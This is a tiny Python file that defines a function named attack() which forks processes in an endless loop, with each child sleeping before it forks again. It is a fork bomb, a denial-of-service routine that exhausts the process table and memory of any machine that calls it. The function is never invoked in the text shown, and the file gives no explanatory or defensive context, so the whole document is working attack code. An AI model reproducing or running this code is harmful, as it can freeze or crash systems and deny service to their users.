import os
import time


def attack():
    while True:
        if os.fork() == 0:
            time.sleep(1000)
